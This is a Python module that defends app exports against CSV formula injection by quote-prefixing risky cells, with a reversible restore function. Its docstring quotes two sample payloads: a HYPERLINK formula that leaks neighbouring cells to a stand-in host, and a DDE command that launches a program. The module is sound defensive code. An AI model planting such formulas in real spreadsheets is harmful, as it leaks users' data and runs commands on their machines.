"""Spreadsheet cells that stay text: neutralising formula injection in exports.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file
evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
versions, a tab, carriage return or NUL before one) as a formula: an open
answer ``=HYPERLINK("https://evil.example/?"&A2;"klik")`` becomes a link that
sends the neighbouring cells away, ``-2+3+cmd|' /C calc'!A0`` a DDE command.
Every export this app writes passes each text cell through :func:`neutralise`
first (OWASP "CSV injection", ASVS 1.2.10): such a cell gets a leading single
quote, which spreadsheets read as "this is text" and do not show.

Two exceptions keep exports useful:

* A cell that is a plain number (``-3``, ``-2.5``, ``-1e-3``) is left alone:
  a spreadsheet reads it as the number it is, no formula is involved, and a
  negative answer to a number question must stay a number for whoever sums
  the column.
* :func:`restore` undoes :func:`neutralise` exactly, so ``ledenpanel analyse``
  reads the app's own export back with the same answers. The two are each
  other's inverse on every string because a cell that already starts with
  quotes before a trigger (``'=x``) gets one more quote too: ``restore`` only
  ever removes a quote that ``neutralise`` could have added.

Cells in an .xlsx file are typed, so there the defence is different: write
them as string cells, never as formulas (see ``kernel/xlsform/writing.py``),
and mark the ones :func:`is_formula_like` flags with Excel's *quote prefix*
style, so editing such a cell in Excel keeps it text.

Pure: no Django, no I/O.
"""

from __future__ import annotations

import re

QUOTE = "'"

# The characters that make a spreadsheet read a cell as a formula when they
# come first: OWASP's = + - @ tab CR, ASVS's NUL, a line feed (the CR's twin),
# and the full-width forms of = + - @, which East Asian Excel versions turn
# into their ASCII counterparts while typing or importing.
TRIGGERS = "=+-@\t\r\n\x00＝＋－＠"

# Leading spaces do not protect: some importers strip them before deciding.
# Leading quotes are counted so that restore() can tell its own quote from a
# member's (see the module's docstring).
_FORMULA_LIKE = re.compile(rf"'* *[{re.escape(TRIGGERS)}]")
_NEUTRALISED = re.compile(rf"'+ *[{re.escape(TRIGGERS)}]")

# A plain decimal number as the exports write one: ASCII digits, an optional
# leading minus, an optional decimal point and exponent. Nothing else: "-2+3",
# "-1,5" (a thousands separator in English Excel), "-inf" and "-0x1" are text.
_PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)


def is_plain_number(text: str) -> bool:
    """Whether a spreadsheet reads ``text`` as a number without any formula."""
    return _PLAIN_NUMBER.fullmatch(text) is not None


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet might evaluate ``text`` as a formula (plain numbers are not)."""
    return _FORMULA_LIKE.match(text) is not None and not is_plain_number(text)


def neutralise(text: str) -> str:
    """``text`` as a cell a spreadsheet shows as text: a leading quote where it is needed."""
    return QUOTE + text if is_formula_like(text) else text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`: ``restore(neutralise(x)) == x`` for every string."""
    return text[1:] if _NEUTRALISED.match(text) else text
